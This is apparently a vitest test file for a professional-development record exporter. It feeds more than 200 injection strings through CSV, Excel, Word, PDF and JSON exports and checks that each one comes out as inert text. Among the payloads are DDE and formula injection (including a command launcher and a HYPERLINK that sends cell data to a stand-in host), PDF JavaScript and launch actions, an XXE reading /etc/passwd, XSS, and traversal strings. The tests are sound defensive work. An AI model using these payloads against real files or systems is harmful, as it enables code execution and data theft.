import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { beforeAll, expect, test } from 'vitest'
import type { CpdExport } from '#server/cpd/exports/export.server.ts'
import { fileOf } from '#server/cpd/exports/file.server.ts'
import { formPageOf } from '#server/cpd/exports/form-pages.server.ts'
import { cpdExport } from '#server/cpd/exports/json.server.ts'
import { draftOf } from '#server/cpd/rules/entry/draft.ts'
import {
  exportFileName,
  exportFormats,
  type ExportFormat,
} from '#server/cpd/rules/export-format.ts'
import { exportScope } from '#server/cpd/rules/export-scope.ts'
import { wordFieldIds } from '#server/cpd/rules/regulator/question.ts'
import { profileOn } from '#server/cpd/profiles.server.ts'
import { readCell } from '#server/platform/csv.server.ts'
import { entryId, evidenceId, personId } from '#server/platform/rules/ids.ts'
import { day } from '#server/platform/rules/london.ts'
import { wholeOf } from '#server/platform/zip.server.ts'
import { cellsOf, paragraphsOf } from '#tests/support/office-text.ts'
import { readPdf } from '#tests/support/pdf-text.ts'
import { profiles, theRoom } from './cpd-record.ts'

const starts = ['=', '+', '-', '@', "'=", "''@", '＝', '＋', '\u200e=', '"=', '%', '']
const ends = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://x.test?"&A1,"here")',
  '1+1;DDE("x")',
  '“quoted”, "quoted", and, commas;',
  'two\nlines\n=1+1\n@x',
  ') Tj ET EMC /H1 <</MCID 9>> BDC (x) endstream endobj 9 0 obj << /OpenAction 1 0 R >>',
  '<< /S /JavaScript /JS (app.alert(1)) >> /AA /Launch /URI (http://x.test) \\(\\)',
  '</w:t></w:r></w:p><w:p><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x"/>',
  '</t></is></c><c t="str"><f>1+1</f></c>&#61;1 &lt;f&gt; ]]> <!-- -->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<script>alert(1)</script><img src=x onerror=alert(1)> javascript:alert(1)',
  'Content-Type: text/html\nSet-Cookie: a=b\n\n<h1>x</h1>',
  '{"__proto__": {"isAdmin": true}} \\u0022,"status":"ready" \\',
  '_x000D__x0041_ _x005F_ \ufffe \uffff',
  'مرحبا (1) =2 \u202etxt.exe\u202c ŵ ŷ 👩‍👩‍👧 e\u0301 日本',
  'w'.repeat(600),
  '%s%n %00 ../../etc/passwd ${7*7} {{7*7}} #{7*7}',
  '[link](javascript:alert(1)) ![](x) # heading',
]
const payloads = starts.flatMap((start) => ends.map((end) => `${start}${end}`))

const profile = { ...profileOn(profiles, 'swe', day.parse('2026-11-27')), endsOn: null }
const owner = personId.parse('00000000-0000-4000-8000-0000000000aa')

/** A record with an entry for each text, which stands in every field that can hold one. */
function recordOf(texts: readonly string[]): CpdExport {
  return {
    at: Date.parse('2026-11-27T14:32:00Z'),
    person: { name: texts[0] ?? '', jobTitle: texts[1] ?? '' },
    ...{ profile, asking: [profile], registrations: [] },
    scope: { kind: 'everything' },
    entries: texts.map((text, at) => {
      const id = `30000000-0000-4000-8000-${at.toString(16).padStart(12, '0')}`
      const fact = { ...theRoom, title: text, peers: [{ jobTitle: text, count: 1 }] }
      const evidence = { id: evidenceId.parse(id), person: owner, at: at, fact }
      const draft = draftOf(profile, owner, evidence)
      const words = Object.fromEntries(wordFieldIds.map((field) => [field, text]))
      return {
        title: `Case reflection: ${text}`,
        evidence: [{ ...evidence, isBrought: at % 2 === 1 }],
        entry: {
          ...draft,
          id: entryId.parse(id),
          standards: [text],
          broughtLabel: text,
          fields: {
            ...{ ...draft.fields, ...words, activityType: 'from-elsewhere' },
            others: { 'part-of-the-code': text },
          },
        },
      }
    }),
  }
}

const hostile = recordOf(payloads)
const harmless = recordOf(payloads.map((_, at) => `Words number ${at}`))
const files = new Map<ExportFormat, { hostile: Buffer; harmless: Buffer }>()

beforeAll(async () => {
  for (const format of exportFormats) {
    files.set(format, {
      hostile: await wholeOf(fileOf[format](hostile, () => undefined)),
      harmless: await wholeOf(fileOf[format](harmless, () => undefined)),
    })
  }
})

function madeAs(format: ExportFormat) {
  return files.get(format) ?? expect.fail(format)
}

test('there are more than 200 of them', () => {
  expect(new Set(payloads).size).toBeGreaterThan(200)
})

test('T18: CSV: no cell can be run, each reads back as it was written', () => {
  const rows: string[][] = parse(madeAs('csv').hostile, { bom: true })
  expect(rows).toHaveLength(payloads.length + 1)
  for (const [at, text] of payloads.entries()) {
    const cells = rows[at + 1] ?? []
    expect(cells).toHaveLength(rows[0]?.length ?? 0)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
    expect(cells.filter((cell) => readCell(cell) === text).length).toBeGreaterThanOrEqual(5)
  }
})

test('Excel: every cell is text, and the sheet holds nothing else', () => {
  const { hostile, harmless } = madeAs('xlsx')
  const sheet = partOf(hostile, 'xl/worksheets/sheet1.xml')
  expect(tagsOf(sheet)).toEqual(tagsOf(partOf(harmless, 'xl/worksheets/sheet1.xml')))
  expect(sheet).not.toMatch(/<f[ >/]/)
  const cells = cellsOf(hostile)
  for (const text of payloads) {
    expect(cells.filter((cell) => cell === keepable(text)).length).toBeGreaterThanOrEqual(5)
  }
})

test('Word: what was typed makes no paragraph, field or link', () => {
  const { hostile, harmless } = madeAs('docx')
  const isLine = (tag: string) => !/^<w:(?:br|tab|t|bidi|rtl|rPr)\b|^<\/w:(?:t|rPr)>/.test(tag)
  const structure = (file: Buffer) => tagsOf(partOf(file, 'word/document.xml')).filter(isLine)
  expect(structure(hostile)).toEqual(structure(harmless))
  expect(Object.keys(unzipSync(hostile))).toEqual(Object.keys(unzipSync(harmless)))
  const texts = paragraphsOf(hostile).map(({ text }) => text)
  for (const text of payloads) {
    expect(texts.filter((one) => one === keepable(text)).length).toBeGreaterThanOrEqual(4)
  }
})

test('PDF: the tags are those of harmless words, nothing is run, every word is there', () => {
  const { hostile, harmless } = madeAs('pdf')
  const read = readPdf(hostile)
  // The note on signs that no typeface has is one more paragraph at the end.
  expect(read.tags.slice(0, -1)).toEqual(readPdf(harmless).tags)
  const outside = hostile.toString('latin1').replace(/stream\n[^]*?endstream/g, '')
  const title = outside.replace(/\((?:\\[^]|[^\\)])*\)/g, '()')
  expect(title).not.toMatch(/\/(?:JavaScript|JS|OpenAction|AA|Launch|URI|EmbeddedFile)\b/)
  const text = read.text.replace(/\s+/g, '')
  for (const word of [
    'app.alert(1)',
    'etc/passwd',
    'DDEAUTO',
    'w'.repeat(600),
    '日本',
    '👩‍👩‍👧',
    'ŵ',
  ]) {
    expect(text).toContain(word)
  }
})

test('JSON: reads back exactly, by the published schema', () => {
  const read = cpdExport.parse(JSON.parse(madeAs('json').hostile.toString()))
  for (const [at, text] of payloads.entries()) {
    expect(read.entries[at]).toMatchObject({
      ...{ description: text, learnt: text, impact: text, peerLearning: text, standards: [text] },
      evidence: [{ fact: { title: text, peers: [{ jobTitle: text }] } }],
    })
  }
})

test('the regulator’s form is given each text as it was written', () => {
  for (const { entry, title } of hostile.entries) {
    const boxes = formPageOf({ entry, title, profile }).boxes
    expect(boxes.filter(({ text }) => text === entry.fields.learnt)).toHaveLength(5)
  }
})

test('no header holds anything that was typed', () => {
  for (const text of payloads) expect(exportScope.safeParse(text).success).toBe(false)
  for (const [format] of files) {
    for (const { entry } of hostile.entries.slice(0, 3)) {
      expect(exportFileName({ kind: 'entry', entry: entry.id }, format)).toMatch(
        /^[a-z-]+\.[a-z]+$/,
      )
    }
  }
})

/** XML has no place for two of the signs; they are seen to be missing. */
function keepable(text: string): string {
  return text.replace(/[\ufffe\uffff]/g, '\ufffd')
}

function partOf(file: Buffer, name: string): string {
  return strFromU8(unzipSync(file)[name] ?? new Uint8Array())
}

/** All tags in their order, without where a cell stands. */
function tagsOf(xml: string): string[] {
  return xml.match(/<[^>]*>/g) ?? []
}
